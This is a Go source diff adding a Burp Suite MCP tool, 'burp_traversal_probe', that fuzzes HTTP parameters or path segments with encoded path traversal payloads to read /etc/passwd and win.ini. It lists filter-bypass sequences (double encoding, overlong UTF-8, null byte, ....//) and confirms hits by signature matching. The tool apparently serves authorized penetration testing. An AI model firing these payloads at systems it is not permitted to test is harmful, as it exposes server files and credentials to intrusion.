@@ -0,0 +1,264 @@
+package tools
+
+import (
+	"context"
+	"fmt"
+	"regexp"
+	"sort"
+	"strings"
+
+	"github.com/c0tton-fluff/burp-mcp-server/internal/burp"
+	"github.com/modelcontextprotocol/go-sdk/mcp"
+)
+
+const (
+	defaultTraversalDepth = 8
+	maxTraversalDepth     = 15
+
+	// traversalExcerptRadius is how much context to keep around a signature match.
+	traversalExcerptRadius = 120
+)
+
+// traversalFile is a well-known file and the content that proves it was read.
+type traversalFile struct {
+	name      string
+	path      string
+	absolute  []string
+	seqs      []string
+	signature *regexp.Regexp
+}
+
+// traversalFiles are the targets: /etc/passwd on Unix, win.ini on Windows.
+// Sequences are query- and path-safe encodings of "../" (or "..\") that get
+// past naive filters, single and double decoding, and ../ stripping.
+var traversalFiles = []traversalFile{
+	{
+		name:      "/etc/passwd",
+		path:      "etc/passwd",
+		absolute:  []string{"/etc/passwd", "file:///etc/passwd"},
+		seqs:      []string{"../", "..%2f", "%2e%2e%2f", "%2e%2e/", "%252e%252e%252f", "....//", "..%c0%af", "..;/"},
+		signature: regexp.MustCompile(`root:[^:\r\n]*:0:0:`),
+	},
+	{
+		name:      "win.ini",
+		path:      "windows/win.ini",
+		absolute:  []string{"C:%5cwindows%5cwin.ini", "C:/windows/win.ini"},
+		seqs:      []string{"..%5c", "../", "%2e%2e%5c", "..%255c"},
+		signature: regexp.MustCompile(`(?i)\[(fonts|extensions|mci extensions)\]|; for 16-bit app support`),
+	},
+}
+
+// TraversalProbeInput is the input for burp_traversal_probe.
+type TraversalProbeInput struct {
+	Raw           string `json:"raw" jsonschema:"required,Raw HTTP request that loads a file or resource"`
+	Param         string `json:"param,omitempty" jsonschema:"Parameter to fuzz (query or form body). One of param or pathSegment is required"`
+	In            string `json:"in,omitempty" jsonschema:"Where param lives: query or body (form-encoded). Default: wherever it already is, else query"`
+	PathSegment   int    `json:"pathSegment,omitempty" jsonschema:"1-based path segment to replace instead of a parameter (e.g. 2 for report.pdf in /files/report.pdf)"`
+	Depth         int    `json:"depth,omitempty" jsonschema:"Number of ../ sequences (default 8, max 15)"`
+	Host          string `json:"host,omitempty" jsonschema:"Target host (overrides Host header)"`
+	Port          int    `json:"port,omitempty" jsonschema:"Target port (default based on TLS)"`
+	TLS           *bool  `json:"tls,omitempty" jsonschema:"Use HTTPS (default true)"`
+	HeaderProfile string `json:"headerProfile,omitempty" jsonschema:"Header rule profile from config (default: 'default')"`
+	Instance      string `json:"instance,omitempty" jsonschema:"Named Burp instance from config (default: the --burp-url connection)"`
+}
+
+// TraversalHit is a payload whose response contained the target file.
+type TraversalHit struct {
+	Payload    string `json:"payload"`
+	File       string `json:"file"`
+	StatusCode int    `json:"statusCode"`
+	BodySize   int    `json:"bodySize"`
+	Evidence   string `json:"evidence"`
+}
+
+// TraversalProbeOutput is the output of burp_traversal_probe.
+type TraversalProbeOutput struct {
+	Confirmed []TraversalHit `json:"confirmed"`
+	Tried     int            `json:"tried"`
+	Summary   string         `json:"summary"`
+	Errors    []string       `json:"errors,omitempty"`
+}
+
+// traversalPayload is one value to insert and the file it targets.
+type traversalPayload struct {
+	value string
+	file  *traversalFile
+}
+
+// traversalPayloads expands each file's sequences to depth, plus its
+// absolute paths and, for /etc/passwd, a null-byte extension bypass.
+func traversalPayloads(depth int) []traversalPayload {
+	var out []traversalPayload
+	for i := range traversalFiles {
+		f := &traversalFiles[i]
+		for _, seq := range f.seqs {
+			out = append(out, traversalPayload{strings.Repeat(seq, depth) + f.path, f})
+		}
+		for _, abs := range f.absolute {
+			out = append(out, traversalPayload{abs, f})
+		}
+		if f.path == "etc/passwd" {
+			out = append(out, traversalPayload{strings.Repeat("../", depth) + f.path + "%00.png", f})
+		}
+	}
+	return out
+}
+
+// injectPathSegment replaces the 1-based segment of the request path.
+func injectPathSegment(raw string, segment int, value string) (string, error) {
+	r, err := splitRawRequest(raw)
+	if err != nil {
+		return "", err
+	}
+	path, query, hasQuery := strings.Cut(r.target, "?")
+	parts := strings.Split(path, "/")
+	// parts[0] is the empty string before the leading slash.
+	if segment < 1 || segment >= len(parts) {
+		return "", fmt.Errorf("pathSegment %d is out of range for %s (%d segments)", segment, path, len(parts)-1)
+	}
+	parts[segment] = value
+	r.target = strings.Join(parts, "/")
+	if hasQuery {
+		r.target += "?" + query
+	}
+	return r.String(), nil
+}
+
+// injectAt inserts an already-encoded value at a path segment when segment
+// is set, else into param as injectParam does.
+func injectAt(raw, param, in string, segment int, value string) (string, error) {
+	if segment > 0 {
+		return injectPathSegment(raw, segment, value)
+	}
+	raw, _, err := injectParam(raw, param, value, in)
+	return raw, err
+}
+
+// signatureExcerpt returns the text around the first signature match in body.
+func signatureExcerpt(body string, sig *regexp.Regexp) (string, bool) {
+	loc := sig.FindStringIndex(body)
+	if loc == nil {
+		return "", false
+	}
+	start := max(0, loc[0]-traversalExcerptRadius)
+	end := min(len(body), loc[1]+traversalExcerptRadius)
+	return body[start:end], true
+}
+
+func traversalProbeHandler(client *burp.Client) func(context.Context, *mcp.CallToolRequest, TraversalProbeInput) (*mcp.CallToolResult, TraversalProbeOutput, error) {
+	return func(ctx context.Context, _ *mcp.CallToolRequest, input TraversalProbeInput) (*mcp.CallToolResult, TraversalProbeOutput, error) {
+		ctx = burp.WithInstance(ctx, input.Instance)
+
+		if (input.Param == "") == (input.PathSegment == 0) {
+			return nil, TraversalProbeOutput{}, fmt.Errorf("exactly one of param or pathSegment is required")
+		}
+		depth := input.Depth
+		if depth == 0 {
+			depth = defaultTraversalDepth
+		}
+		if depth < 1 || depth > maxTraversalDepth {
+			return nil, TraversalProbeOutput{}, fmt.Errorf("depth must be 1-%d", maxTraversalDepth)
+		}
+		rawNorm, parsed, err := prepareRequest(input.Raw, input.HeaderProfile)
+		if err != nil {
+			return nil, TraversalProbeOutput{}, err
+		}
+		t, err := resolveTarget(input.Host, input.Port, input.TLS, parsed.Host)
+		if err != nil {
+			return nil, TraversalProbeOutput{}, err
+		}
+
+		inject := func(value string) (string, error) {
+			return injectAt(rawNorm, input.Param, input.In, input.PathSegment, value)
+		}
+		if _, err := inject(""); err != nil {
+			return nil, TraversalProbeOutput{}, err
+		}
+
+		// A page that already shows a signature (documentation, a previous
+		// exploit in a log viewer) would confirm every payload.
+		baseline, err := sendParsed(ctx, client, rawNorm, t, 0)
+		if err != nil {
+			return nil, TraversalProbeOutput{}, fmt.Errorf("baseline request failed: %w", err)
+		}
+		skip := map[string]bool{}
+		for _, f := range traversalFiles {
+			if f.signature.MatchString(baseline.Body) {
+				skip[f.name] = true
+			}
+		}
+
+		payloads := traversalPayloads(depth)
+		hits := make([]*TraversalHit, len(payloads))
+		statuses := make([]int, len(payloads))
+		errs := make([]string, len(payloads))
+		parallel(len(payloads), func(i int) {
+			p := payloads[i]
+			req, err := inject(p.value)
+			if err == nil {
+				var resp *burp.ParsedHTTPResponse
+				if resp, err = sendParsed(ctx, client, req, t, 0); err == nil {
+					statuses[i] = resp.StatusCode
+					if excerpt, ok := signatureExcerpt(resp.Body, p.file.signature); ok && !skip[p.file.name] {
+						hits[i] = &TraversalHit{Payload: p.value, File: p.file.name, StatusCode: resp.StatusCode, BodySize: resp.BodySize, Evidence: excerpt}
+					}
+				}
+			}
+			if err != nil {
+				errs[i] = fmt.Sprintf("%s: %v", p.value, err)
+			}
+		})
+
+		out := TraversalProbeOutput{Confirmed: []TraversalHit{}, Tried: len(payloads)}
+		for i := range payloads {
+			if hits[i] != nil {
+				out.Confirmed = append(out.Confirmed, *hits[i])
+			}
+			if errs[i] != "" {
+				out.Errors = append(out.Errors, errs[i])
+			}
+		}
+		out.Summary = traversalSummary(statuses, len(out.Errors), len(out.Confirmed), skip)
+		return nil, out, nil
+	}
+}
+
+// traversalSummary counts status codes the way burp_batch_send does and notes
+// files skipped because the baseline already matched.
+func traversalSummary(statuses []int, errCount, confirmed int, skipped map[string]bool) string {
+	counts := map[int]int{}
+	for _, s := range statuses {
+		if s != 0 {
+			counts[s]++
+		}
+	}
+	codes := make([]int, 0, len(counts))
+	for c := range counts {
+		codes = append(codes, c)
+	}
+	sort.Ints(codes)
+	var parts []string
+	for _, c := range codes {
+		parts = append(parts, fmt.Sprintf("%dx %d", counts[c], c))
+	}
+	if errCount > 0 {
+		parts = append(parts, fmt.Sprintf("%dx error", errCount))
+	}
+	summary := fmt.Sprintf("%d payloads, %d confirmed, responses: %s", len(statuses), confirmed, strings.Join(parts, ", "))
+	for _, f := range traversalFiles {
+		if skipped[f.name] {
+			summary += fmt.Sprintf("; %s signature already in the baseline response, not checked", f.name)
+		}
+	}
+	return summary
+}
+
+// RegisterTraversalProbeTool registers the burp_traversal_probe tool.
+func RegisterTraversalProbeTool(server *mcp.Server, client *burp.Client) {
+	addTool(server, &mcp.Tool{
+		Name: "burp_traversal_probe",
+		Description: `Fuzz a parameter or path segment with encoded traversal sequences (../, %2e%2e%2f, double encoding, ....//, overlong UTF-8, ..\, absolute paths, null byte) ` +
+			`targeting /etc/passwd and win.ini, and confirm payloads whose response contains the file's signature. ` +
+			`Returns {confirmed: [{payload, file, statusCode, bodySize, evidence}], tried, summary, errors}.`,
+	}, traversalProbeHandler(client))
+}